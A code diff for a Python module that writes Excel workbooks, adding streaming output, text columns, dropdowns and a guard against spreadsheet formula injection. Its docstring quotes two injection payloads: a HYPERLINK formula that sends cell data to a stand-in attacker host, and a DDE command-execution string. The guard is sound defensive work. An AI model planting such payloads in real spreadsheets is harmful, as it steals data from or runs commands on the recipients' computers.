@@ -2,19 +2,26 @@
 headers that opens cleanly in Excel and WPS. No Django here.
 
 Reading goes through `sheetreader`, which keeps a hostile upload within bounds of size, shape
-and time.
+and time. Writing goes through `write_workbook`, and every cell it writes through `_cell`, which
+keeps text as text: a complaint's subject ``=HYPERLINK("http://evil.example/?x="&A2,"查看详情")``
+or a registration answer ``=cmd|' /C calc'!A0`` must reach the staff who download the list as
+the words the citizen typed, never as a formula Excel or WPS would run.
 """
 
 from __future__ import annotations
 
 import contextlib
+import datetime
 import io
 from collections.abc import Iterable, Iterator, Sequence
 from dataclasses import dataclass
 
 from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Alignment, Font, PatternFill
 from openpyxl.utils import get_column_letter
+from openpyxl.worksheet.datavalidation import DataValidation
 
 from .sheetreader import MAX_COLUMNS, READ_SECONDS, XlsxError, sheet_rows
 
@@ -102,12 +109,20 @@ def _text(values: tuple, index: int) -> str:
 
 @dataclass
 class Sheet:
-    """One table of a workbook: its sheet name, the header row and the rows."""
+    """One table of a workbook: its sheet name, the header row and the rows.
+
+    ``examples`` are rows shown grey and italic below the header (a template's filled-in
+    example); ``text_columns`` name the columns Excel must keep as typed (codes, phone numbers)
+    instead of turning them into numbers; ``validations`` are dropdowns and input checks.
+    """
 
     title: str
     headers: Sequence[str]
     rows: Iterable[Sequence]
     widths: Sequence[int] | None = None
+    examples: Sequence[Sequence] = ()
+    text_columns: Sequence[str] = ()
+    validations: Sequence[DataValidation] = ()
 
 
 def write_table(
@@ -123,29 +138,79 @@ def write_table(
     return write_workbook([Sheet(title, headers, rows, widths)], notes=notes)
 
 
+TIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
+_HEADER_STYLE = {
+    "font": Font(bold=True),
+    "fill": PatternFill("solid", fgColor="DDE6F3"),
+    "alignment": Alignment(vertical="center"),
+}
+_EXAMPLE_STYLE = {"font": Font(italic=True, color="808080")}
+_WRAP = Alignment(wrap_text=True, vertical="top")
+# What Excel, WPS and LibreOffice take as the start of a formula when a cell is typed or a file
+# is opened (OWASP "CSV injection"); a tab or carriage return ahead of one hides it.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
 def write_workbook(sheets: Sequence[Sheet], *, notes: Sequence[str] = ()) -> bytes:
     """A workbook with a table sheet each (bold frozen header, sensible widths) and, if given,
-    a 说明 sheet of notes."""
-    workbook = Workbook()
-    workbook.remove(workbook.active)
+    a 说明 sheet of notes.
+
+    Written row by row (openpyxl's write-only mode): a year's audit log is tens of thousands
+    of rows, and memory stays flat where a normal workbook would not. Datetimes are shown to
+    the second, multi-line text wrapped, and text that looks like a formula stays text.
+    """
+    workbook = Workbook(write_only=True)
     for table in sheets:
         sheet = workbook.create_sheet(table.title[:31])
-        sheet.append(list(table.headers))
-        for cell in sheet[1]:
-            cell.font = Font(bold=True)
-            cell.fill = PatternFill("solid", fgColor="DDE6F3")
-            cell.alignment = Alignment(vertical="center")
-        for row in table.rows:
-            sheet.append(["" if value is None else value for value in row])
         sheet.freeze_panes = "A2"
         for index, header in enumerate(table.headers, start=1):
-            width = table.widths[index - 1] if table.widths else max(10, len(header) * 2 + 4)
-            sheet.column_dimensions[get_column_letter(index)].width = width
+            column = sheet.column_dimensions[get_column_letter(index)]
+            column.width = table.widths[index - 1] if table.widths else max(10, len(header) * 2 + 4)
+            if header in table.text_columns:
+                column.number_format = "@"  # also for the rows a person adds
+        for validation in table.validations:
+            sheet.data_validations.append(validation)
+        text = {table.headers.index(name) for name in table.text_columns}
+        sheet.append([_cell(sheet, header, **_HEADER_STYLE) for header in table.headers])
+        for row in table.examples:
+            sheet.append(_cells(sheet, row, text, _EXAMPLE_STYLE))
+        for row in table.rows:
+            sheet.append(_cells(sheet, row, text, {}))
     if notes:
         help_sheet = workbook.create_sheet("说明")
-        for note in notes:
-            help_sheet.append([note])
         help_sheet.column_dimensions["A"].width = 100
+        for note in notes:
+            help_sheet.append([_cell(help_sheet, note)])
     buffer = io.BytesIO()
     workbook.save(buffer)
     return buffer.getvalue()
+
+
+def _cells(sheet, row: Sequence, text: set[int], style: dict) -> list[WriteOnlyCell]:
+    """The cells of a row; those at the ``text`` positions formatted as text."""
+    return [
+        _cell(sheet, value, **style, **({"number_format": "@"} if index in text else {}))
+        for index, value in enumerate(row)
+    ]
+
+
+def _cell(sheet, value, **style) -> WriteOnlyCell:
+    """The one place a value becomes a cell."""
+    if isinstance(value, str):
+        # Control characters XML cannot hold (a vertical tab pasted into a complaint) would
+        # make openpyxl refuse the whole workbook.
+        value = ILLEGAL_CHARACTERS_RE.sub("", value)
+    cell = WriteOnlyCell(sheet, value="" if value is None else value)
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        # openpyxl stores any text starting with "=" as a formula. A string cell shows the text
+        # as typed; the quote prefix (Excel's leading apostrophe, not part of the value) keeps
+        # it text when someone edits the cell, where Excel and WPS would make it a formula.
+        cell.data_type = "s"
+        cell.quotePrefix = True
+    elif isinstance(value, datetime.datetime):
+        cell.number_format = TIME_FORMAT
+    if isinstance(value, str) and "\n" in value:
+        cell.alignment = _WRAP
+    for name, setting in style.items():
+        setattr(cell, name, setting)
+    return cell
